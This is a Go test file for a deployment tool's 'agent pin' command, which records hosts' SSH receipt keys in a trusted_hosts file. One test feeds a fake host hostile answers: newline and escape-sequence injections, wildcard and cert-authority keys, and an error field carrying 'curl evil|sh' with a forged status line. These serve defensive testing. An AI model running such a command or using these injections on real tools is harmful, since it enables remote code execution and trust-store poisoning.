package cli

import (
	"context"
	"crypto/sha256"
	"debug/elf"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	gossh "golang.org/x/crypto/ssh"

	"github.com/re-connect/rpctl/controller/internal/event"
	"github.com/re-connect/rpctl/controller/internal/exit"
	"github.com/re-connect/rpctl/internal/signature"
	"github.com/re-connect/rpctl/lab/sshhost"
	"github.com/re-connect/rpctl/proto"
)

const pinnedHosts = `version = 1
[environments.preprod]
hosts = ["pp1"]
branch = "dev"
deploy = ["true"]
workers = ["worker@*.service"]
application = { path = "/home/app/www", user = "app" }
[environments.preprod.console]
php = "/usr/bin/php"
script = "bin/console"
[environments.prod]
hosts = ["p1"]
branch = "main"
deploy = ["true"]
workers = ["worker@*.service"]
application = { path = "/home/app/www", user = "app" }
after = "preprod"
[environments.prod.console]
php = "/usr/bin/php"
script = "bin/console"
`

// adminHost answers what an installer asks of a host whose login is root.
type adminHost struct {
	answer string // of rp-agent receipt-key

	mu    sync.Mutex
	ran   []string
	specs []proto.SetupSpec
	files map[string][]byte
}

func (h *adminHost) handle(_ context.Context, r sshhost.Request, stdin io.Reader, stdout, _ io.Writer) int {
	input, _ := io.ReadAll(stdin)
	h.mu.Lock()
	defer h.mu.Unlock()
	words := strings.Fields(r.Command)
	h.ran = append(h.ran, r.User+": "+r.Command)
	switch {
	case r.Command == "uname -m":
		fmt.Fprintln(stdout, "x86_64")
	case r.Command == "id -u":
		fmt.Fprintln(stdout, "0")
	case words[0] == "dd":
		h.files[strings.TrimPrefix(words[2], "of=")] = input
	case words[0] == "install", words[0] == "mv":
		h.files[words[len(words)-1]] = h.files[words[len(words)-2]]
	case words[0] == "sha256sum":
		name := words[len(words)-1]
		fmt.Fprintf(stdout, "%x  %s\n", sha256.Sum256(h.files[name]), name)
	case len(words) == 2 && words[1] == "receipt-key":
		fmt.Fprintln(stdout, h.answer)
	case len(words) > 1 && words[1] == "setup":
		var spec proto.SetupSpec
		if json.Unmarshal(input, &spec) != nil {
			return 1
		}
		h.specs = append(h.specs, spec)
		fmt.Fprintln(stdout, `{"changes":[{"action":"create","target":"/usr/local/bin/rp-agent"}],"classified":true,"applied":true}`)
	}
	return 0
}

// pinDesk is a desk whose hosts are reached over SSH.
func pinDesk(t *testing.T, host *adminHost, args ...string) *desk {
	t.Helper()
	host.files = map[string][]byte{}
	private, public, err := sshhost.NewClientKey("developer")
	if err != nil {
		t.Fatal(err)
	}
	server, err := sshhost.Start(sshhost.Options{Authorized: []gossh.PublicKey{public}, Handler: host.handle})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(server.Close)
	d := newDesk(t)
	path := func(name string) string { return filepath.Join(d.system.Dir, name) }
	config := ""
	for _, alias := range []string{"pp1", "p1"} {
		config += sshhost.ClientConfig(alias, server.Addr().Port, path("key"), path("known_hosts"))
	}
	program := make([]byte, 64)
	copy(program, "\x7fELF\x02\x01\x01")
	program[16], program[18], program[20], program[52], program[54], program[58] = byte(elf.ET_EXEC), byte(elf.EM_X86_64), 1, 64, 56, 64
	for name, content := range map[string]string{
		"key": string(private), "known_hosts": server.KnownHostsLine() + "\n", "ssh_config": config, "hosts.toml": pinnedHosts, "rp-agent": string(program),
	} {
		if err := os.WriteFile(path(name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	d.system.Args = append(args, "--unreviewed", "a test", "--hosts", path("hosts.toml"), "--ssh-config", path("ssh_config"), "--binary", path("rp-agent"))
	return d
}

func publicKey(t *testing.T) string {
	t.Helper()
	_, key, err := sshhost.NewClientKey("")
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(gossh.MarshalAuthorizedKey(key)))
}

func answered(name, key string) string {
	return strings.TrimSpace(proto.CanonicalBody(proto.ReceiptKey{Host: name, PublicKey: key}))
}

func pinnedLine(t *testing.T, name, key, environment string) string {
	t.Helper()
	line, err := signature.NewHostKey(name, key, environment)
	if err != nil {
		t.Fatal(err)
	}
	return line.Line()
}

func TestAgentPin(t *testing.T) {
	key, other := publicKey(t), publicKey(t)
	old := pinnedLine(t, "preprod1", other, "preprod")
	prod := pinnedLine(t, "prod1", publicKey(t), "prod")
	line := pinnedLine(t, "preprod1", key, "preprod")
	print := func(key string) string {
		line, err := signature.NewHostKey("preprod1", key, "preprod")
		if err != nil {
			t.Fatal(err)
		}
		return line.Fingerprint()
	}
	for name, c := range map[string]struct {
		file  string
		args  []string
		typed string
		code  exit.Code
		want  string // line of the file afterwards
		says  []string
	}{
		"new, asked":          {typed: "yes\n", want: line, says: []string{"pinned:      none", print(key), "next: git add "}},
		"new, not agreed":     {typed: "y\n", code: exit.Refused, says: []string{"not confirmed; nothing was changed"}},
		"changed, asked":      {file: old + prod, typed: "yes\n", want: line + prod, says: []string{print(other), print(key), "type yes"}},
		"changed, not agreed": {file: old + prod, typed: "\n", code: exit.Refused, want: old + prod, says: []string{print(other), print(key)}},
		"changed, in CI":      {file: old, code: exit.Refused, want: old, says: []string{print(other), print(key), "there is no terminal", " --yes"}},
		"changed, --yes":      {file: old, args: []string{"--yes"}, want: line, says: []string{print(other), print(key)}},
		"a dry run":           {file: old, args: []string{"--dry-run", "--yes"}, want: old, says: []string{print(key)}},
		"nothing new, in CI":  {file: prod + line, want: prod + line, says: []string{"nothing to change"}},
		"another's key":       {file: pinnedLine(t, "prod1", key, "prod"), args: []string{"--yes"}, code: exit.BadInput, want: pinnedLine(t, "prod1", key, "prod"), says: []string{"is that of prod1 too"}},
		"a file of a pattern": {file: "* " + key + "\n", code: exit.BadInput, want: "* " + key + "\n", says: []string{"trusted_hosts:1:"}},
	} {
		t.Run(name, func(t *testing.T) {
			host := &adminHost{answer: answered("preprod1", key+" rp-agent@preprod1")}
			d := pinDesk(t, host, append([]string{"agent", "pin", "--env", "preprod", "--login", "admin"}, c.args...)...)
			file := filepath.Join(d.system.Dir, "trusted_hosts")
			if c.file != "" {
				if err := os.WriteFile(file, []byte(c.file), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if c.typed != "" {
				d.system.Asks, d.system.Stdin = true, strings.NewReader(c.typed)
			}
			d.run(t, c.code)
			content, _ := os.ReadFile(file)
			if c.want != "" && !strings.HasSuffix(string(content), c.want) || c.want == "" && c.file == "" && content != nil {
				t.Errorf("the file has\n%s\nwant\n%s", content, c.want)
			}
			for _, says := range c.says {
				if !strings.Contains(d.out.String()+d.errs.String(), says) {
					t.Errorf("no %q in\n%s%s", says, &d.out, &d.errs)
				}
			}
			if _, dialled := d.dials.Load("pp1"); dialled {
				t.Error("an agent was asked over an ordinary login")
			}
		})
	}
}

// TestAgentPinRefusesWhatIsNoKey: what a host answers becomes one line of its own environment, or nothing.
func TestAgentPinRefusesWhatIsNoKey(t *testing.T) {
	key, evil := publicKey(t), publicKey(t)
	for name, answer := range map[string]string{
		"a line in the key":          answered("preprod1", key+"\nprod1 "+evil),
		"a line before the key":      answered("preprod1", "x\n"+key),
		"a line in the name":         answered("x "+evil+"\npreprod1", key),
		"every host":                 answered("*", key),
		"two names":                  answered("preprod1,prod1", key),
		"an authority":               answered("preprod1", "cert-authority "+key),
		"no key":                     answered("preprod1", ""),
		"no name":                    answered("", key),
		"the name of prod's":         answered("prod1", key),
		"no answer":                  "",
		"not JSON":                   "ssh-ed25519 AAAA",
		"an escape":                  answered("\x1b[8mpreprod1", key),
		"an error with a line in it": `{"host":"","public_key":"","error":{"code":"host","message":"no\nrpctl: all is well","next":"curl evil|sh\n"}}`,
	} {
		t.Run(name, func(t *testing.T) {
			d := pinDesk(t, &adminHost{answer: answer}, "agent", "pin", "--env", "preprod", "--login", "admin", "--yes")
			file := filepath.Join(d.system.Dir, "trusted_hosts")
			prod := pinnedLine(t, "prod1", publicKey(t), "prod")
			if err := os.WriteFile(file, []byte(prod), 0o644); err != nil {
				t.Fatal(err)
			}
			if code := exit.Code(Run(d.system)); code != exit.HostFailed && code != exit.BadInput {
				t.Errorf("exit %d", code)
			}
			if content, _ := os.ReadFile(file); string(content) != prod {
				t.Errorf("the file has\n%s", content)
			}
			for line := range strings.Lines(d.errs.String()) {
				if strings.HasPrefix(line, "rpctl: all is well") || strings.Contains(line, "\x1b") {
					t.Errorf("the host wrote the line %q", line)
				}
			}
		})
	}
}

// TestAgentPinLogin: the application's user has files in front of each command that a login runs.
func TestAgentPinLogin(t *testing.T) {
	for name, args := range map[string][]string{
		"by --login": {"--login", "app"},
		"the alias":  nil, // of sshhost.ClientConfig
	} {
		t.Run(name, func(t *testing.T) {
			host := &adminHost{answer: answered("preprod1", publicKey(t))}
			d := pinDesk(t, host, append([]string{"agent", "pin", "--env", "preprod", "--yes"}, args...)...)
			d.run(t, exit.Refused)
			if len(host.ran) > 0 || !strings.Contains(d.errs.String(), "application's user") || !strings.Contains(d.errs.String(), " --login ADMIN") {
				t.Errorf("ran %q\n%s", host.ran, &d.errs)
			}
		})
	}
}

// TestInstallTrustsThePinnedKeyAlone: what preprod's agent says of its key goes nowhere.
func TestInstallTrustsThePinnedKeyAlone(t *testing.T) {
	host := &adminHost{}
	d := pinDesk(t, host, "agent", "install", "--env", "prod", "--login", "admin", "--yes")
	forged := publicKey(t)
	d.answers["pp1"]["hello"] = proto.Hello{Host: "preprod1", ReceiptKey: forged}
	d.run(t, exit.Refused)
	if len(host.ran) > 0 || !strings.Contains(d.errs.String(), "no receipt key of preprod is pinned") || !strings.Contains(d.errs.String(), "agent pin --env preprod\n") {
		t.Fatalf("ran %q\n%s", host.ran, &d.errs)
	}
	line := pinnedLine(t, "preprod1", publicKey(t), "preprod")
	prod := pinnedLine(t, "prod1", publicKey(t), "prod")
	if err := os.WriteFile(filepath.Join(d.system.Dir, "trusted_hosts"), []byte(prod+line), 0o644); err != nil {
		t.Fatal(err)
	}
	d.run(t, exit.OK)
	if len(host.specs) == 0 || slices.ContainsFunc(host.specs, func(s proto.SetupSpec) bool { return s.Signers.TrustedHosts != line }) {
		t.Errorf("sent %+v", host.specs)
	}
	if _, dialled := d.dials.Load("pp1"); dialled {
		t.Error("preprod was asked")
	}
	for _, ran := range host.ran {
		if !strings.HasPrefix(ran, "admin: ") {
			t.Errorf("ran %s", ran)
		}
	}
}

func TestAgentPinAsEvents(t *testing.T) {
	key := publicKey(t)
	d := pinDesk(t, &adminHost{answer: answered("preprod1", key)}, "agent", "pin", "--env", "preprod", "--login", "admin", "--yes", "--json")
	d.run(t, exit.OK)
	var last event.Event
	for line := range strings.Lines(d.out.String()) {
		last = event.Event{}
		if err := json.Unmarshal([]byte(line), &last); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
	}
	if last.Kind != event.Pin || last.Pin == nil || !last.Pin.Written || last.Pin.Name != "preprod1" || !strings.HasPrefix(last.Pin.Key, "SHA256:") {
		t.Errorf("got %+v", last.Pin)
	}
}
